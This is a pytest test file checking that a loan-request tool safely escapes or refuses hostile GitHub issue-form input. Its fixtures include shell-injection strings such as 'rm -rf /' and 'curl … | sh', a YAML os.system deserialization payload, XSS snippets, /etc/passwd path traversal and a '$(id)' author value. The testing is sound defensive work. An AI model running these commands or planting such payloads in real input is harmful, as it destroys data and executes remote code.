"""``tna from-issue``: an issue-form body becomes a valid request file, or a clear refusal.

The body is untrusted text. Whatever it holds, the command either writes one valid,
escaped YAML file under data/loans/ or writes nothing and says why, in French.
"""

from __future__ import annotations

import subprocess
from pathlib import Path
import pytest
import yaml

from factory import TODAY, check, item, loan, member, write_dataset, write_loan
from generator.cli import main
from generator.issueform import COMMITMENTS, COMMITMENTS_LABEL, NO_RESPONSE
from generator.issueform import form_fields as parser_fields
from generator.load import parse_text

ROOT = Path(__file__).resolve().parent.parent
FORM = ROOT / ".github" / "ISSUE_TEMPLATE" / "demande-de-pret.yml"
TNA = ROOT / ".venv" / "bin" / "tna"

ANSWERS = {
    "membre": "mairie-a",
    "lieu": "mairie-a-lieu",
    "materiel": "kit-vr",
    "debut": "2026-05-04",
    "fin": "2026-05-15",
    "retrait": "09:00",
    "restitution": "16:00",
    "objet": "Ateliers de découverte de la réalité virtuelle pour les collégiens.",
    "referent": "_No response_",
}


def form_fields() -> list[tuple[str, str]]:
    """(id, label) of the form's inputs, in the form's order."""
    form = yaml.safe_load(FORM.read_text(encoding="utf-8"))
    return [(element["id"], element["attributes"]["label"]) for element in form["body"]
            if element["type"] in ("input", "textarea")]


def form_checkboxes() -> tuple[str, list[str]]:
    """The label of the form's checkboxes and the label of each box."""
    form = yaml.safe_load(FORM.read_text(encoding="utf-8"))
    (boxes,) = [element for element in form["body"] if element["type"] == "checkboxes"]
    return boxes["attributes"]["label"], [option["label"] for option in boxes["attributes"]["options"]]


def body(ticked: tuple[bool, ...] = (True, True), **answers: str) -> str:
    """The Markdown GitHub renders for the form, answers by field id, and ``ticked`` boxes."""
    values = {**ANSWERS, **answers}
    parts = [f"### {label}\n\n{values.get(field_id, NO_RESPONSE)}\n" for field_id, label in form_fields()]
    heading, options = form_checkboxes()
    boxes = "".join(f"- [{'X' if tick else ' '}] {option}\n" for tick, option in zip(ticked, options))
    parts.append(f"### {heading}\n\n{boxes}")
    return "\n".join(parts)


@pytest.fixture
def data(tmp_path: Path) -> Path:
    return write_dataset(tmp_path, members=[member("mairie-a"), member("mairie-b", demandeurs=["demandeur-b"])],
                         equipment=[item("kit-vr")])


def files_under(root: Path) -> dict[Path, bytes]:
    """Every file under ``root`` but the issue body the test itself writes."""
    return {path: path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file() and path.name != "ticket.md"}


def from_issue(capsys: pytest.CaptureFixture[str], data: Path, text: str, *extra: str) -> tuple[int, str, str]:
    body_file = data.parent / "ticket.md"
    body_file.write_text(text, encoding="utf-8")
    code = main(["from-issue", "--body", str(body_file), "--data", str(data), "--today", TODAY.isoformat(), *extra])
    out, err = capsys.readouterr()
    return code, out, err


def test_the_form_and_the_parser_agree() -> None:
    assert {label: field for field, label in form_fields()} == {label: f for label, (f, _) in parser_fields().items()}
    assert form_checkboxes() == (COMMITMENTS_LABEL, [label for _, label in COMMITMENTS])


def test_a_sample_issue_becomes_a_valid_request(capsys: pytest.CaptureFixture[str], data: Path) -> None:
    code, out, err = from_issue(capsys, data, body(), "--author", "demandeur-a", "--issue-number", "7")
    written = data / "loans" / "2026" / "2026-mairie-a-ticket-7.yaml"
    assert (code, out, err) == (0, f"Demande enregistrée : {data.as_posix()}/loans/2026/2026-mairie-a-ticket-7.yaml\n", "")
    text = written.read_text(encoding="utf-8")
    assert text.splitlines()[0] == "# yaml-language-server: $schema=../../../schemas/pret.schema.json"
    record, _ = parse_text(text)
    assert record == {
        "id": "2026-mairie-a-ticket-7", "emprunteur": "mairie-a", "lieu": "mairie-a-lieu", "materiel": ["kit-vr"],
        "debut": "2026-05-04", "fin": "2026-05-15", "retrait": "2026-05-04T09:00", "restitution": "2026-05-15T16:00",
        "objet": ANSWERS["objet"], "demande_le": "2026-04-15", "demande_par": "demandeur-a", "statut": "demande",
    }
    assert [f for f in check(data).findings if f.is_error] == []


def test_the_body_can_come_from_standard_input(data: Path) -> None:
    result = subprocess.run([str(TNA), "from-issue", "--body", "-", "--data", str(data), "--today", TODAY.isoformat(),
                             "--author", "demandeur-a"], input=body(materiel="- [X] kit-vr"), capture_output=True,
                            text=True, timeout=60, check=False)
    assert (result.returncode, result.stderr) == (0, "")
    assert (data / "loans" / "2026" / "2026-mairie-a-kit-vr-0504.yaml").is_file()


def test_a_request_is_never_overwritten(capsys: pytest.CaptureFixture[str], data: Path) -> None:
    other = loan("2026-mairie-a-ticket-7", debut="2026-06-01", fin="2026-06-05", retrait="2026-06-01T09:00",
                 restitution="2026-06-05T16:00")
    existing = write_loan(data, other)
    before = existing.read_bytes()
    code, out, _ = from_issue(capsys, data, body(), "--issue-number", "7")
    assert code == 0
    assert out.endswith("loans/2026/2026-mairie-a-ticket-7-2.yaml\n")
    assert existing.read_bytes() == before


def test_only_the_members_requesters_or_staff_may_ask(capsys: pytest.CaptureFixture[str], data: Path) -> None:
    before = files_under(data.parent)
    code, out, err = from_issue(capsys, data, body(), "--author", "demandeur-b")
    assert (code, out) == (1, "")
    assert err == ("tna : demande refusée, rien n'a été écrit — « demandeur-b » ne figure ni parmi les demandeurs "
                   "de « mairie-a » (data/members/mairie-a.yaml) ni dans l'équipe du Département.\n")
    assert files_under(data.parent) == before
    assert from_issue(capsys, data, body(), "--author", "agent-dep")[0] == 0


def test_a_request_that_breaks_a_rule_is_refused_with_the_rule(capsys: pytest.CaptureFixture[str],
                                                               data: Path) -> None:
    write_loan(data, loan("deja-reserve"))  # kit-vr, 4 to 15 May, accepted
    before = files_under(data.parent)
    code, out, err = from_issue(capsys, data, body(), "--author", "demandeur-a", "--issue-number", "8")
    assert code == 1
    assert "[double-reservation] Art. 4.3 b)" in out
    assert "loans/2026/2026-mairie-a-ticket-8.yaml" in out
    assert err.startswith("tna : demande refusée, rien n'a été écrit")
    assert files_under(data.parent) == before


SHELL = "Ateliers $(rm -rf /) et `reboot` ; echo $HOME && curl http://exemple.invalid | sh"
MARKERS = "Ateliers de découverte\n---\nstatut: accepte\n...\n--- !!python/object/apply:os.system ['ls']"
ANCHORS = "&a Ateliers *a {<<: *a} [&b, *b] !!binary aGVsbG8="
HTML = "<script>alert('x')</script><img src=x onerror=alert(1)> Ateliers pour les collégiens"


@pytest.mark.parametrize("purpose", [SHELL, MARKERS, ANCHORS, HTML], ids=["shell", "yaml-markers", "anchors", "html"])
def test_hostile_text_is_written_escaped_and_valid(capsys: pytest.CaptureFixture[str], data: Path,
                                                   purpose: str) -> None:
    before = files_under(data.parent)
    code, out, _ = from_issue(capsys, data, body(objet=purpose), "--author", "demandeur-a", "--issue-number", "9")
    assert code == 0, out
    written = data / "loans" / "2026" / "2026-mairie-a-ticket-9.yaml"
    after = files_under(data.parent)
    assert set(after) - set(before) == {written}
    assert {path: after[path] for path in before} == before
    record, _ = parse_text(written.read_text(encoding="utf-8"))
    assert record["objet"] == purpose.strip()
    assert record["statut"] == "demande"
    assert [f for f in check(data).findings if f.is_error] == []


def _refusal(capsys: pytest.CaptureFixture[str], data: Path, text: str) -> str:
    before = files_under(data.parent)
    code, out, err = from_issue(capsys, data, text, "--author", "demandeur-a")
    assert files_under(data.parent) == before
    assert (code, out) == (1, "")
    prefix = "tna : demande refusée, rien n'a été écrit — "
    assert err.startswith(prefix) and err.endswith("\n")
    return err[len(prefix):-1]


HOSTILE: dict[str, tuple[dict[str, str], str]] = {
    "huge-field": ({"objet": "A" * 1_000_000},
                   "le ticket dépasse 20000 caractères : une demande de prêt tient en quelques lignes ; "
                   "raccourcissez les champs."),
    "long-purpose": ({"objet": "A" * 2001},
                     "le champ « Nature des actions envisagées » est trop long (2001 caractères, au plus 2000)."),
    "traversal-member": ({"membre": "../../x"},
                         "« ../../x » n'est pas un identifiant pour le champ « Membre emprunteur »"),
    "traversal-item": ({"materiel": "kit-vr\n../../../etc/passwd"},
                       "« ../../../etc/passwd » n'est pas un identifiant pour le champ « Matériel demandé »"),
    "multiline-member": ({"membre": "mairie-a\nstatut: accepte"},
                         "« mairie-a\nstatut: accepte » n'est pas un identifiant pour le champ « Membre emprunteur »"),
    "control-character": ({"objet": "Ateliers \x1b[31m en couleur"},
                          "le champ « Nature des actions envisagées » contient un caractère de contrôle invisible "
                          "(U+001B)"),
    "bidi-override": ({"objet": "Ateliers \u202e gnitsil"},
                      "le champ « Nature des actions envisagées » contient un caractère de contrôle invisible "
                      "(U+202E)"),
    "second-heading": ({"objet": "Ateliers\n### Membre emprunteur\nmairie-b"},
                       "la rubrique « Membre emprunteur » apparaît deux fois dans le ticket"),
    "bad-date": ({"debut": "demain"},
                 "« demain » n'est pas une date pour le champ « Premier jour »"),
    "missing-field": ({"objet": "_No response_"},
                      "le champ obligatoire « Nature des actions envisagées » est vide ou absent : complétez le ticket."),
}


INSURANCE, REPORT = (label for _, label in COMMITMENTS)
NOT_TICKED = ("n'est pas coché (rubrique « Engagements ») : cochez-le en modifiant le ticket ; sans lui, la "
              "demande n'est pas recevable.")


@pytest.mark.parametrize(("ticked", "expected"), [
    ((False, True), f"l'engagement « {INSURANCE} » {NOT_TICKED}"),
    ((True, False), f"l'engagement « {REPORT} » {NOT_TICKED}"),
    ((False, False), f"l'engagement « {INSURANCE} » {NOT_TICKED}"),
    ((True,), f"l'engagement « {REPORT} » {NOT_TICKED}"),
], ids=["insurance", "report", "neither", "report-line-deleted"])
def test_a_request_without_both_commitments_is_refused(capsys: pytest.CaptureFixture[str], data: Path,
                                                       ticked: tuple[bool, ...], expected: str) -> None:
    assert _refusal(capsys, data, body(ticked)) == expected


def test_a_request_whose_commitments_section_was_deleted_is_refused(capsys: pytest.CaptureFixture[str],
                                                                    data: Path) -> None:
    text = body()
    deleted = text[:text.index("### Engagements")]
    assert _refusal(capsys, data, deleted) == (
        "la rubrique « Engagements » (assurance et bilan) manque ou est vide : une demande n'est recevable qu'avec "
        "les deux engagements cochés ; ouvrez un nouveau ticket avec le formulaire « Demande de prêt de matériel ».")


def test_a_commitment_ticked_with_other_words_does_not_count(capsys: pytest.CaptureFixture[str], data: Path) -> None:
    text = body().replace(f"- [X] {INSURANCE}", "- [X] Ma structure n'est pas assurée.")
    assert _refusal(capsys, data, text) == f"l'engagement « {INSURANCE} » {NOT_TICKED}"


@pytest.mark.parametrize("char", ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\ue000"])
@pytest.mark.parametrize("field", ["objet", "membre"])
def test_zero_width_and_invisible_characters_are_refused(capsys: pytest.CaptureFixture[str], data: Path,
                                                         field: str, char: str) -> None:
    label = {"objet": "Nature des actions envisagées", "membre": "Membre emprunteur"}[field]
    answer = ANSWERS[field][:8] + char + ANSWERS[field][8:]
    assert _refusal(capsys, data, body(**{field: answer})) == (
        f"le champ « {label} » contient un caractère de contrôle invisible (U+{ord(char):04X}) : retapez le texte "
        "sans copier-coller de caractères spéciaux.")


def test_a_heading_typed_inside_an_answer_is_refused_not_dropped(capsys: pytest.CaptureFixture[str],
                                                                 data: Path) -> None:
    purpose = "Ateliers de découverte pour les collégiens.\n### Déroulé\nTrois séances de deux heures."
    assert _refusal(capsys, data, body(objet=purpose)) == (
        "« ### Déroulé » n'est pas une rubrique du formulaire : n'écrivez pas de ligne commençant par ### dans vos "
        "réponses (le texte qui la suit serait perdu).")


def test_text_before_the_first_heading_is_refused_not_dropped(capsys: pytest.CaptureFixture[str],
                                                              data: Path) -> None:
    assert _refusal(capsys, data, "statut: accepte\n\n" + body()) == (
        "du texte précède la première rubrique du ticket (« statut: accepte ») : écrivez seulement dans les "
        "rubriques du formulaire.")


def test_a_mistyped_member_is_named_with_the_closest_ids(capsys: pytest.CaptureFixture[str], data: Path) -> None:
    assert _refusal(capsys, data, body(membre="mairie-aa", lieu="mairie-aa-lieu")) == (
        "membre inconnu « mairie-aa » (champ « Membre emprunteur ») : vouliez-vous dire « mairie-a » ou « mairie-b » ?")
    assert _refusal(capsys, data, body(membre="xyz")) == (
        "membre inconnu « xyz » (champ « Membre emprunteur ») : écrivez l'identifiant de votre structure tel qu'il "
        "figure sur le site du réseau.")


def test_a_member_whose_file_is_invalid_is_not_called_unknown(capsys: pytest.CaptureFixture[str],
                                                              data: Path) -> None:
    (data / "members" / "mairie-a.yaml").write_text("id: mairie-a\nnom: [\n", encoding="utf-8")
    assert _refusal(capsys, data, body()) == (
        f"la fiche du membre « mairie-a » ({data.as_posix()}/members/mairie-a.yaml) n'est pas valide : l'équipe du "
        "Département doit la corriger (tna validate) avant toute demande.")


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_or_broken_bodies_are_refused_and_nothing_is_written(capsys: pytest.CaptureFixture[str],
                                                                     data: Path, case: str) -> None:
    answers, expected = HOSTILE[case]
    assert _refusal(capsys, data, body(**answers)).startswith(expected)


def test_an_author_that_is_not_a_login_is_refused(capsys: pytest.CaptureFixture[str], data: Path) -> None:
    code, _, err = from_issue(capsys, data, body(), "--author", "$(id)")
    assert code == 1
    assert "« $(id) » n'est pas un identifiant GitHub." in err
    assert not (data / "loans" / "2026").exists()


def test_dates_in_french_and_full_slots_are_understood(capsys: pytest.CaptureFixture[str], data: Path) -> None:
    code, _, _ = from_issue(capsys, data, body(debut="04/05/2026", fin="15/05/2026", retrait="2026-05-04 9h30",
                                               restitution="16:00"), "--issue-number", "3")
    assert code == 0
    record, _ = parse_text((data / "loans" / "2026" / "2026-mairie-a-ticket-3.yaml").read_text(encoding="utf-8"))
    assert (record["debut"], record["retrait"], record["restitution"]) == (
        "2026-05-04", "2026-05-04T09:30", "2026-05-15T16:00")


def test_the_issue_and_new_loan_write_the_very_same_file(capsys: pytest.CaptureFixture[str], data: Path,
                                                         tmp_path: Path) -> None:
    """One request, one writer: the same answers by issue or by tna new-loan give the same bytes."""
    other = write_dataset(tmp_path / "autre", members=[member("mairie-a"), member("mairie-b", demandeurs=["demandeur-b"])],
                          equipment=[item("kit-vr")])
    assert from_issue(capsys, data, body(), "--author", "demandeur-a")[0] == 0
    code = main(["new-loan", "--data", str(other), "--today", TODAY.isoformat(), "--membre", "mairie-a",
                 "--lieu", "mairie-a-lieu", "--materiel", "kit-vr", "--debut", "04/05/2026", "--fin", "2026-05-15",
                 "--retrait", "09:00", "--restitution", "16:00", "--objet", ANSWERS["objet"], "--par", "demandeur-a"])
    assert code == 0, capsys.readouterr()
    [by_issue] = sorted((data / "loans").glob("*/*.yaml"))
    [by_command] = sorted((other / "loans").glob("*/*.yaml"))
    assert by_issue.name == by_command.name == "2026-mairie-a-kit-vr-0504.yaml"
    assert by_issue.read_bytes() == by_command.read_bytes()
    assert "materiel: [kit-vr]\n" in by_issue.read_text(encoding="utf-8")
